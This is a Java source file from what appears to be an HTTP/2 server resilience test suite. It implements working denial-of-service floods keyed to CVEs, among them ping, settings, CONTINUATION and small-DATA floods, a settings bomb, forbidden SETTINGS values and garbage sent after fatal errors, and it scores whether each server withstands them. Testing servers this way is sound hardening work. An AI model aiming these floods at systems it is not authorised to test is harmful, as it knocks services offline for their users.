package dev.tern.interop.attacks;

import static dev.tern.interop.attacks.Octets.concat;
import static dev.tern.interop.attacks.Octets.field;
import static dev.tern.interop.attacks.Octets.frame;
import static dev.tern.interop.attacks.Octets.int32;
import static dev.tern.interop.attacks.Octets.repeat;
import static dev.tern.interop.attacks.Octets.settings;
import static dev.tern.interop.attacks.Octets.windowUpdate;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/** Frames that cost the sender little and the receiver, it is hoped, much. */
final class FrameFloods {
  private static final int MILLION = 1_000_000;

  private FrameFloods() {}

  static List<Attack> all() {
    return List.of(
        new Attack(
            "ping-flood", "CVE-2019-9512", scene -> deafFlood(scene, frame(6, 0, 0, new byte[8]))),
        new Attack("settings-flood", "CVE-2019-9515", scene -> deafFlood(scene, settings())),
        new Attack("priority-churn", "CVE-2019-9513", FrameFloods::priorities),
        new Attack("unknown-frames", "CVE-2019-9518", FrameFloods::unknownFrames),
        new Attack("empty-data", "CVE-2019-9518", FrameFloods::emptyData),
        new Attack("empty-continuations", "CVE-2026-33871", scene -> continuations(scene, 0)),
        new Attack("continuation-flood", "CVE-2024-27316", scene -> continuations(scene, 16_384)),
        new Attack("small-data", "CVE-2026-84304", FrameFloods::smallData),
        new Attack("settings-bomb", "CVE-2020-11080", FrameFloods::settingsBomb),
        new Attack("settings-values", "CVE-2026-33814", FrameFloods::settingsValues),
        new Attack("garbage-after-fatal", "CVE-2026-27135", FrameFloods::garbageAfterFatal),
        new Attack("padding-over-length", "RFC 9113 6.1", FrameFloods::padding));
  }

  /** Replies pile up at the server, for the peer never reads them. */
  private static Outcome deafFlood(Scene scene, byte[] frame) throws IOException {
    Peer peer = scene.open();
    peer.reading = false;
    peer.flood(frame, 4L * MILLION);
    return scene.cutOffOrHeld(peer);
  }

  private static Outcome priorities(Scene scene) throws IOException {
    Peer peer = scene.open();
    var batch = new ArrayList<byte[]>();
    for (int stream = 1; stream < 4000; stream += 2) {
      batch.add(frame(Octets.PRIORITY, 0, stream, concat(int32(stream + 2), new byte[] {16})));
    }
    peer.flood(concat(batch.toArray(new byte[0][])), 500L * batch.size() / batch.size());
    return scene.cutOffOrServed(peer, 5001);
  }

  private static Outcome unknownFrames(Scene scene) throws IOException {
    Peer peer = scene.open();
    peer.flood(frame(0x77, 0, 0), MILLION);
    return scene.cutOffOrServed(peer, 1);
  }

  private static Outcome emptyData(Scene scene) throws IOException {
    Peer peer = scene.open();
    peer.send(scene.target.unaryHead(1));
    peer.flood(frame(Octets.DATA, 0, 1), MILLION / 10);
    return scene.cutOff(peer);
  }

  /** A field block without end: 1 GB of it, or endless frames of nothing. */
  private static Outcome continuations(Scene scene, int octets) throws IOException {
    Peer peer = scene.open();
    peer.send(frame(Octets.HEADERS, 0, 1, Octets.request(scene.target.unary())));
    byte[] name = field("x-flood", "a".repeat(100));
    byte[] payload = repeat(name, Math.max(1, octets / name.length));
    byte[] frame = frame(Octets.CONTINUATION, 0, 1, octets == 0 ? new byte[0] : payload);
    peer.flood(frame, octets == 0 ? MILLION : (1L << 30) / frame.length);
    return scene.cutOff(peer);
  }

  /** A million frames of one octet, over a hundred streams. */
  private static Outcome smallData(Scene scene) throws IOException {
    Peer peer = scene.open();
    var batch = new ArrayList<byte[]>();
    for (int stream = 1; stream < 200; stream += 2) {
      peer.send(Octets.headers(stream, 0, Octets.request(scene.target.upload())));
      peer.send(frame(Octets.DATA, 0, stream, concat(new byte[] {0}, int32(4_000_000))));
      batch.add(frame(Octets.DATA, 0, stream, (byte) 0));
    }
    peer.flood(concat(batch.toArray(new byte[0][])), MILLION / 100);
    return scene.cutOffOrServed(peer, 201);
  }

  private static Outcome settingsBomb(Scene scene) throws IOException {
    Peer peer = scene.open();
    int[] entries = new int[2 * 2700];
    for (int i = 0; i < entries.length; i += 2) {
      entries[i] = 0xff00 + i % 200;
      entries[i + 1] = i;
    }
    peer.flood(settings(entries), 130);
    return scene.cutOff(peer);
  }

  /** Values that RFC 9113 6.5.2 forbids: each must end its connection. */
  private static Outcome settingsValues(Scene scene) throws IOException {
    int[][] forbidden = {
      {2, 2}, {2, -1}, {4, -1}, {4, 1 << 31}, {5, 0}, {5, 16_383}, {5, 1 << 24}, {5, -1}
    };
    var survived = new ArrayList<String>();
    for (int[] entry : forbidden) {
      Outcome outcome = scene.cutOff(scene.open(entry));
      if (!outcome.withstood()) {
        survived.add(entry[0] + "=" + Integer.toUnsignedString(entry[1]));
      }
    }
    return Outcome.of(
        survived.isEmpty(),
        survived.isEmpty() ? forbidden.length + " values, each refused" : "taken: " + survived);
  }

  /** After an error that ends the connection, nothing more may be parsed. */
  private static Outcome garbageAfterFatal(Scene scene) throws IOException {
    byte[][] fatal = {
      frame(Octets.DATA, 0, 0),
      frame(Octets.SETTINGS, 0, 1),
      windowUpdate(0, 0),
      frame(Octets.HEADERS, 4, 2, Octets.request(scene.target.unary())),
      frame(Octets.RST_STREAM, 0, 1, int32(8)),
      frame(Octets.PING, 0, 0, new byte[7]),
      frame(Octets.CONTINUATION, 4, 1)
    };
    for (byte[] error : fatal) {
      Peer peer = scene.open();
      peer.send(concat(error, repeat(new byte[] {(byte) 0xa5}, 1 << 16)));
      peer.send(concat(repeat(scene.target.unaryCall(1), 100)));
      Outcome outcome = scene.cutOff(peer);
      if (!outcome.withstood() || peer.answeredOk() > 0) {
        return Outcome.of(false, outcome.what() + ", " + peer.answeredOk() + " calls answered");
      }
    }
    return Outcome.of(true, fatal.length + " errors, each final");
  }

  private static Outcome padding(Scene scene) throws IOException {
    Peer peer = scene.open();
    peer.send(scene.target.unaryHead(1));
    peer.send(frame(Octets.DATA, Octets.PADDED, 1, (byte) 200, (byte) 0));
    return scene.cutOff(peer, 1);
  }
}
